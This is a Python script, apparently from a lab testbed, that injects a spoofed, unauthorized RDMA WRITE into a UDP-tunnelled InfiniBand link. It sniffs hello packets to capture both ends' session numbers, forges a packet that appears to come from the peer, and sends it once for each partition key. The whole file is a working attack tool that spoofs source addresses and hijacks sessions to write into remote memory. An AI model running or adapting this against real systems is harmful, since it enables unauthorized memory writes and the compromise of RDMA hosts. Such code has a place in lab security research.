"""Injects an RDMA WRITE without permission into the UDP cable of a device.

The packet seems to come from the other end of a connection.

    inject.py LOCAL PEER DLID SLID QPN PSN

LOCAL, PEER: IPv4 addresses of the ends of the cable; the packet goes to PEER.
QPN: the queue pair at PEER. PSN: the packet sequence number that it expects.

The program sends the packet once for each partition of the lab; the device drops all but one.
Both ends accept only packets with the session numbers of both, which the program reads from the next hello.
"""

import pathlib
import socket
import struct
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent))

from testbed import ibwire  # noqa: E402

PORT = 4800
RC_WRITE_ONLY = 0x0A
PKEYS = (0xFFFF, 0x8001)
HELLO = b"\xffIBLINK\x02"
# Seconds to wait for a hello; an end sends several per second.
HELLO_TIMEOUT = 60


def sessions(local, peer):
    """Returns the session numbers of sender and receiver, the trailer of every packet from LOCAL to PEER."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3)) as wire:
        wire.settimeout(HELLO_TIMEOUT)
        while True:
            packet = wire.recv(1 << 16)
            hello = packet[28:]
            if packet[12:20] == socket.inet_aton(local) + socket.inet_aton(peer) and hello.startswith(HELLO):
                return hello[8:24]


def main():
    local, peer = sys.argv[1:3]
    dlid, slid, qpn, psn = (int(number, 0) for number in sys.argv[3:])
    trailer = sessions(local, peer)
    reth = struct.pack(">QII", 0x1000, 0x100, 4)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for pkey in PKEYS:
            bth = ibwire.bth(RC_WRITE_ONLY, qpn, psn, pkey, ack=True)
            packet = ibwire.finish(ibwire.lrh(dlid, slid) + bth + reth + b"gift") + trailer
            datagram = struct.pack(">HHHH", PORT, PORT, 8 + len(packet), 0) + packet
            # The kernel fills in zero fields and the checksum.
            header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), 0, 0, 64, socket.IPPROTO_UDP, 0,
                                 socket.inet_aton(local), socket.inet_aton(peer))
            raw.sendto(header + datagram, (peer, 0))


if __name__ == "__main__":
    main()
